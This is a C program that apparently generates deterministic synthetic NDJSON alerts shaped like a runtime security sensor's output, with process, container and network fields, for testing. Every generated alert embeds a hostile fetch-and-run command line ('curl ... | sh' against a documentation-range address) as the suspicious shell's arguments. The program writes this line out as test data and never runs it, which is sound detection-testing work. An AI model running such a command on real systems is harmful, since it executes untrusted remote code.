/* alerts COUNT [FIRST]: that many alerts of about 1.55 kB as NDJSON on standard output, numbered from
 * FIRST (1) in "n", like those of the sensor in shape: nested objects, a command line with escapes, some
 * UTF-8. The same numbers give the same bytes. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

static const char *const strategies[] = {"Suspicious Interactive Shell", "Kernel Exploit Tool",
					 "New File Executed in Container", "Userland Container Escape",
					 "Unauthorized Process Scheduling"};
static const char *const programs[] = {"/usr/bin/bash", "/usr/bin/python3.11", "/tmp/.x11/kworker",
				       "/usr/sbin/nginx", "/opt/b\303\244ckup/bin/run"};

static uint64_t mix(uint64_t value)
{
	value = (value ^ value >> 30) * 0xbf58476d1ce4e5b9u; /* splitmix64 */
	value = (value ^ value >> 27) * 0x94d049bb133111ebu;
	return value ^ value >> 31;
}

static void print_alert(uint64_t number)
{
	uint64_t a = mix(number);
	uint64_t b = mix(a);
	const char *program = programs[a % 5];

	(void)printf("{\"n\":%llu,\"uuid\":\"%016llx%016llx\",\"StrategyName\":\"%s\",\"Priority\":\"%s\","
		     "\"Confidence\":%.3f,"
		     "\"Timestamp\":\"2026-11-21T%02llu:%02llu:%02llu.%09lluZ\",\"Categories\":["
		     "\"Interactive Shell\",\"MITRE."
		     "Execution.Command and Scripting Interpreter\",\"MITRE.Privilege Escalation\"],",
		     (unsigned long long)number, (unsigned long long)a, (unsigned long long)b,
		     strategies[b % 5], a % 3 == 0 ? "High" : "Medium", (double)(a % 1000) / 1000,
		     (unsigned long long)(a / 7 % 24), (unsigned long long)(a / 11 % 60),
		     (unsigned long long)(a / 13 % 60), (unsigned long long)(b % 1000000000));
	(void)printf(
		"\"ProcessInfo\":{\"Pid\":%llu,\"PPid\":%llu,\"Uid\":%llu,\"Gid\":%llu,\"LoginUid\":1000,"
		"\"Program\":{\"Path\":\"%s\","
		"\"Inode\":%llu,\"Hash\":\"sha256:%016llx%016llx%016llx%016llx\"},\"Arguments\":[\"%s\",\"-"
		"c\",\"curl -s "
		"\\\"https://203.0.113.%llu/p?x=%llx\\\" | "
		"sh\\n\"],\"WorkingDirectory\":\"/var/lib/app/%llx\",\"Environment\":"
		"{\"PATH\":\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin\",\"LANG\":\"de_DE.UTF-8\"}},",
		(unsigned long long)(a % 4194304), (unsigned long long)(b % 4194304),
		(unsigned long long)(a % 2000), (unsigned long long)(a % 2000), program,
		(unsigned long long)(b % 100000000), (unsigned long long)a, (unsigned long long)b,
		(unsigned long long)mix(b), (unsigned long long)mix(b + 1), program,
		(unsigned long long)(a % 256), (unsigned long long)b, (unsigned long long)(a % 65536));
	(void)printf("\"Ancestors\":[{\"Pid\":%llu,\"Path\":\"/usr/sbin/sshd\"},{\"Pid\":1,\"Path\":\"/usr/"
		     "lib/systemd/systemd\"}],"
		     "\"Container\":{\"Id\":\"%016llx%016llx\",\"Image\":\"registry.example.com/shop/"
		     "checkout:%llu.%llu\",\"Name\":"
		     "\"checkout-%llx\",\"Kubernetes\":{\"Namespace\":\"shop\",\"Pod\":\"checkout-7d9f%llx\","
		     "\"Node\":\"worker-%llu\"}},"
		     "\"Host\":{\"Name\":\"web-%llu.example.com\",\"Kernel\":\"6.1.0-28-amd64\",\"Address\":"
		     "\"192.0.2.%llu\"},"
		     "\"Network\":{\"Protocol\":\"tcp\",\"Source\":\"192.0.2.%llu:%llu\",\"Destination\":"
		     "\"203.0.113.%llu:443\"},",
		     (unsigned long long)(b % 4194304), (unsigned long long)b, (unsigned long long)a,
		     (unsigned long long)(a % 9), (unsigned long long)(b % 99),
		     (unsigned long long)(a % 65536), (unsigned long long)(b % 65536),
		     (unsigned long long)(a % 40), (unsigned long long)(a % 500),
		     (unsigned long long)(b % 256), (unsigned long long)(b % 256),
		     (unsigned long long)(1024 + a % 60000), (unsigned long long)(a % 256));
	(void)printf("\"Message\":\"%s started an interactive shell whose input comes from the network; the "
		     "parent is a service that "
		     "has no reason to do so \342\200\223 see the "
		     "ancestors\",\"PolicyVersion\":\"5.5.2.%llu\","
		     "\"Advice\":\"Isolate the host, find out what the address was asked for, compare the "
		     "image with the registry\","
		     "\"Suppressed\":false}\n",
		     program, (unsigned long long)(a % 90));
}

int main(int argc, char **argv)
{
	uint64_t count = argc > 1 ? strtoull(argv[1], NULL, 10) : 1000;
	uint64_t first = argc > 2 ? strtoull(argv[2], NULL, 10) : 1;

	for (uint64_t i = 0; i < count; i++)
		print_alert(first + i);
	return fflush(stdout) == 0 && !ferror(stdout) ? EXIT_SUCCESS : EXIT_FAILURE;
}
